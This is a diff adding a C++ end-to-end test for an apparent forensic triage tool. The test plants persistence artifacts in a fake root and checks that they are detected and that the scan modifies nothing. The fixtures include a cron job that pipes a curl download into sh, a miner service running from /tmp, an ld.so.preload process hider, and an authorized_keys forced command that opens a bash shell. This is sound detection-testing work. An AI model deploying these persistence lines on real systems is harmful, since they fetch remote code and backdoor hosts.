@@ -1,0 +1,123 @@
+// End-to-end: persistence planted in a fixture root, and proof that --root writes nothing.
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <map>
+#include <sstream>
+
+#include <gtest/gtest.h>
+
+#include "e2e/vigil_run.hpp"
+#include "support/temp_dir.hpp"
+
+using namespace vigil::testing;
+namespace fs = std::filesystem;
+
+namespace {
+
+void base_root(const TempDir& d) {
+  d.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
+  d.write("etc/shadow", "root:$y$j9T$s$h:19000::::::\nwww-data:*:19000::::::\n");
+  d.write("etc/group", "root:x:0:\n");
+  d.write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
+  d.write("etc/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
+  d.write("root/.bashrc", "export PS1='# '\n. \"$HOME/.cargo/env\"\n");
+  d.write("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 admin@laptop\n");
+  d.write("etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\n");
+  // A package database that owns the clean files, so ownership is judged.
+  d.write("var/lib/dpkg/info/cron.list", "/etc/crontab\n");
+  d.write("var/lib/dpkg/info/openssh-server.list", "/etc/systemd/system/ssh.service\n");
+  // A clean host's files are not new: age them 30 days.
+  struct timespec t[2];
+  t[0].tv_sec = t[1].tv_sec = ::time(nullptr) - 30 * 86400;
+  t[0].tv_nsec = t[1].tv_nsec = 0;
+  for (const auto& e : fs::recursive_directory_iterator(d.path())) ::utimensat(AT_FDCWD, e.path().c_str(), t, AT_SYMLINK_NOFOLLOW);
+}
+
+std::vector<nlohmann::json> triage(const TempDir& d) {
+  auto r = run_vigil({"triage", "--root", d.path(), "--format", "jsonl", "--no-suppress"});
+  EXPECT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
+  return parse_jsonl(r.out);
+}
+
+bool reported(const std::vector<nlohmann::json>& all, const std::string& rule, const std::string& path_suffix) {
+  for (const auto& f : findings_of(all, rule))
+    if (f.contains("file") && std::string(f["file"]["path"]).ends_with(path_suffix)) return true;
+  return false;
+}
+
+// Content, mtime and atime of each path, read with O_NOATIME so looking does not change it.
+std::map<std::string, std::string> state_of(const std::vector<std::string>& paths) {
+  std::map<std::string, std::string> out;
+  for (const auto& p : paths) {
+    struct stat st{};
+    ::lstat(p.c_str(), &st);
+    std::string s = std::to_string(st.st_mode) + ' ' + std::to_string(st.st_size) + ' ' +
+                    std::to_string(st.st_mtim.tv_sec) + '.' + std::to_string(st.st_mtim.tv_nsec) + ' ' +
+                    std::to_string(st.st_atim.tv_sec) + '.' + std::to_string(st.st_atim.tv_nsec) + ' ';
+    if (S_ISREG(st.st_mode)) {
+      int fd = ::open(p.c_str(), O_RDONLY | O_NOATIME);
+      char buf[4096];
+      for (ssize_t n; fd >= 0 && (n = ::read(fd, buf, sizeof buf)) > 0;) s.append(buf, static_cast<std::size_t>(n));
+      if (fd >= 0) ::close(fd);
+    }
+    out[p] = s;
+  }
+  return out;
+}
+
+}  // namespace
+
+TEST(ImagePersistence, CleanFixture_IsQuiet) {
+  TempDir d;
+  base_root(d);
+  for (const auto& f : triage(d)) EXPECT_EQ(f["vigil"]["severity"], "info") << f.dump();
+}
+
+TEST(ImagePersistence, PlantedItems_AreReported) {
+  TempDir d;
+  base_root(d);
+  d.write("etc/cron.d/sync", "*/10 * * * * root curl -fsSL http://198.51.100.9/i.sh | sh\n");
+  d.write("etc/systemd/system/kworker.service", "[Service]\nExecStart=/tmp/.x/miner --donate-level 0\n");
+  fs::create_directories(d / "etc/systemd/system/multi-user.target.wants");
+  fs::create_symlink("/etc/systemd/system/kworker.service", d / "etc/systemd/system/multi-user.target.wants/kworker.service");
+  d.write("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n");
+  d.write("root/.ssh/authorized_keys",
+          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 admin@laptop\ncommand=\"/bin/bash -i\",no-pty ssh-rsa AAAAB3 x\n");
+  auto all = triage(d);
+  EXPECT_TRUE(reported(all, "persistence.download-exec", "/etc/cron.d/sync"));
+  EXPECT_TRUE(reported(all, "persistence.temp-path", "/etc/systemd/system/kworker.service"));
+  EXPECT_TRUE(reported(all, "persistence.recent-unowned", "/etc/systemd/system/kworker.service"));
+  EXPECT_TRUE(reported(all, "persistence.ld-preload", "/etc/ld.so.preload"));
+  EXPECT_TRUE(reported(all, "persistence.authorized-key-forced-command", "/root/.ssh/authorized_keys"));
+  auto r = run_vigil({"triage", "--root", d.path(), "--format", "json", "--no-suppress"});
+  auto doc = nlohmann::json::parse(r.out);
+  bool enabled = false;
+  for (const auto& row : doc["inventory"]["persistence"])
+    if (row["location"] == "/etc/systemd/system/kworker.service") enabled = row["enabled"];
+  EXPECT_TRUE(enabled) << "the .wants link should mark the unit enabled";
+}
+
+TEST(ImagePersistence, TriageUnderRootChangesNoFile) {
+  TempDir d;
+  base_root(d);
+  d.write("etc/cron.d/sync", "*/10 * * * * root curl -fsSL http://198.51.100.9/i.sh | sh\n");
+  // List once, then stamp every entry with old times: a read that touched atime would show.
+  std::vector<std::string> paths;
+  for (const auto& e : fs::recursive_directory_iterator(d.path())) paths.push_back(e.path().string());
+  for (const auto& p : paths) {
+    struct timespec t[2] = {{1000000000, 0}, {1000000000, 0}};
+    ::utimensat(AT_FDCWD, p.c_str(), t, AT_SYMLINK_NOFOLLOW);
+  }
+  auto before = state_of(paths);
+  triage(d);
+  run_vigil({"triage", "--root", d.path(), "--format", "json", "--no-suppress"});
+  run_vigil({"triage", "--root", d.path(), "--color", "never", "--no-suppress"});
+  EXPECT_EQ(state_of(paths), before);
+  std::size_t now = 0;
+  for ([[maybe_unused]] const auto& e : fs::recursive_directory_iterator(d.path())) ++now;
+  EXPECT_EQ(now, paths.size()) << "vigil created files under --root";
+}
